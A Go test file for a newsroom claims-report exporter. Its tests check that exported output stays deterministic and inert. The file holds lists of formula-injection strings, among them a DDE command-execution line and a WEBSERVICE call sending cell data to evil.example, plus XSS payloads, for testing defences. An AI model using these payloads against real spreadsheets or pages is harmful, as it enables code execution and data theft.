package report

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"tallywire/claims"
)

// board reads claims of the sample newsroom, as `export --format json` wrote them.
func board(t testing.TB) []claims.Claim {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join("testdata", "board.json"))
	if err != nil {
		t.Fatal(err)
	}
	var doc struct{ Claims []claims.Claim }
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	return doc.Claims
}

// desk is an Edition with everything set.
var desk = Edition{Title: "Prisoner exchange", Base: "https://desk.example", Publisher: Publisher{"The Desk", "https://www.desk.example/"}, Automatic: true,
	Names: map[claims.SourceID]string{"wireline": "Wireline"}}

// injections are cells that a spreadsheet would run (reliability.md D10), each of which must come out inert.
var injections = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", `"=1+1`, "  =1+1", " '=1+1",
	`=HYPERLINK("http://evil.example","x")`, `=cmd|' /C calc'!A0`, "=WEBSERVICE(\"http://evil.example/\"&A1)", "\u200b=1+1", "\u00a0=1+1",
}

// scripts are texts that would run in a page that does not escape them: kinds from OWASP's filter evasion
// list and bluemonday's tests, in our own words.
var scripts = []string{
	`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `' onmouseover='alert(1)`, `javascript:alert(1)`,
	`<a href="javascript:alert(1)">x</a>`, `<iframe srcdoc="<script>alert(1)</script>">`, `</title><script>alert(1)</script>`, `</style><script>alert(1)</script>`,
	`</desc></svg><script>alert(1)</script>`, "<scr\x00ipt>alert(1)</scr\x00ipt>", `<math><mi xlink:href="data:text/html,<script>alert(1)</script>">`, `data:text/html,<script>alert(1)</script>`,
	`{{.}}`, `<!--`, `-->`, `<style>*{background:url(//evil.example)}</style>`, `<base href="//evil.example">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `&lt;script&gt;alert(1)&lt;/script&gt;`,
}

// hostile is a claim with a text in every field that comes from outside.
func hostile(s string) claims.Claim {
	at := time.Date(2025, 5, 23, 14, 0, 0, 0, time.UTC)
	v := claims.Exactly(claims.Int(390))
	return claims.Claim{
		ID: "c_0123456789abcdef", Statement: s, Status: claims.Disputed, Lifecycle: claims.Current, Confidence: claims.Int(1), Reasons: []string{s}, Settle: []string{s},
		Value: v, Unit: claims.Unit{Class: claims.UnitCount, Name: s}, Measure: s, Place: s, Parties: []string{s}, Topics: []string{s}, FirstSeen: at, LastChanged: at,
		Supporting: []claims.SourceID{claims.SourceID(s)}, Disputing: []claims.SourceID{claims.SourceID(s)}, Origins: []claims.Voice{{Name: s, Counts: true, Stance: claims.Supports, Value: v}},
		Date:     claims.Period{From: s, To: s},
		Mentions: []claims.Mention{{ID: "m_1", Text: s, Sentence: "before " + s + " after", Value: v, Unit: claims.Unit{Name: s}, Attribution: claims.Attribution{Text: s, Speaker: s}, Lang: s, URL: s, Source: claims.SourceID(s), Title: s, Published: at, Retrieved: at, Origin: s, Stance: claims.Supports, Archive: &claims.Archive{File: s, RecordID: s, Digest: s}}},
		History:  []claims.Change{{At: at, Kind: claims.First, Status: claims.Unverified, Value: v, Reasons: []string{s}, Mention: claims.MentionID(s)}},
		Review:   &claims.Review{Status: claims.Verified, Note: s, By: s, At: at},
	}
}

func TestSameClaimsSameBytes(t *testing.T) {
	t.Parallel()
	cs := board(t)
	for _, format := range Formats {
		var a, b bytes.Buffer
		if err := desk.Write(&a, format, cs); err != nil {
			t.Fatalf("%s: %v", format, err)
		}
		if err := desk.Write(&b, format, cs); err != nil {
			t.Fatalf("%s: %v", format, err)
		}
		if !bytes.Equal(a.Bytes(), b.Bytes()) {
			t.Errorf("%s: two reports of the same claims differ", format)
		}
		if a.Len() < 200 {
			t.Errorf("%s: only %d bytes: %q", format, a.Len(), a.String())
		}
		if ContentType(format) == "" || Extension(format) == "" {
			t.Errorf("%s has no media type or file ending", format)
		}
	}
	if err := Write(&bytes.Buffer{}, "pdf", nil); !errors.Is(err, claims.ErrInvalid) {
		t.Errorf("format pdf: %v, want claims.ErrInvalid", err)
	}
}

func TestNoClaims(t *testing.T) {
	t.Parallel()
	for _, format := range Formats {
		if err := desk.Write(&bytes.Buffer{}, format, nil); err != nil {
			t.Errorf("%s of no claims: %v", format, err)
		}
	}
}

func TestVisible(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"390 captives":        "390 captives",
		"\u202e000,1":         "[U+202E]000,1",
		"3\u200b90":           "3[U+200B]90",
		"3\u00ad90":           "3[U+00AD]90",
		"3\u034f9\u31640":     "3[U+034F]9[U+3164]0",
		"390\U000e0031":       "390[U+E0031]",
		"39\ufe0f0":           "39[U+FE0F]0",
		"a\x1b[31mb":          "a[U+001B][31mb",
		"two\nlines\tand tab": "two lines and tab",
		"полонених 1 000":     "полонених 1 000",
		"bad \xff byte":       "bad \ufffd byte",
	} {
		if got := Visible(in); got != want {
			t.Errorf("Visible(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestLink(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"https://harbor.example/a?b=c": "https://harbor.example/a?b=c", "javascript:alert(1)": "", "data:text/html,x": "", "/relative": "", "https://user:pw@x.example/": "", "ftp://x.example": "",
		"https://x.example/a b": "https://x.example/a%20b", "": "", "//x.example": "", "JAVASCRIPT:alert(1)": "",
	} {
		if got := Link(in); got != want {
			t.Errorf("Link(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestMarkdownIsInert(t *testing.T) {
	t.Parallel()
	for _, s := range append([]string{"# head", "[x](javascript:alert(1))", "| a | b |", "- item", "1. item", "`code`", "<https://evil.example>", "![x](https://evil.example/p.png)", "a\n\n# b", "https://evil.example"}, scripts...) {
		var b bytes.Buffer
		if err := desk.Markdown(&b, []claims.Claim{hostile(s)}); err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(b.String()) {
			bare := strings.NewReplacer(`\\`, "", `\<`, "", `\[`, "", `\!`, "", "\\`", "", `\|`, "", `\&`, "").Replace(line)
			bare = strings.ReplaceAll(bare, "](<https://desk.example/claims/c_0123456789abcdef>)", "")
			if strings.Contains(bare, "](") && !strings.Contains(bare, "](<https://evil.example") || strings.Contains(bare, "<script") || strings.Contains(bare, "![") {
				t.Errorf("%q: markup in %q", s, line)
			}
		}
	}
}

func ExampleValueWords() {
	fmt.Println(ValueWords(claims.Value{Low: claims.Int(300), Best: claims.Int(300)}))
	fmt.Println(ValueWords(claims.Value{Low: claims.Int(1000), High: claims.Int(9999)}))
	// Output:
	// at least 300
	// 1,000 to 9,999
}
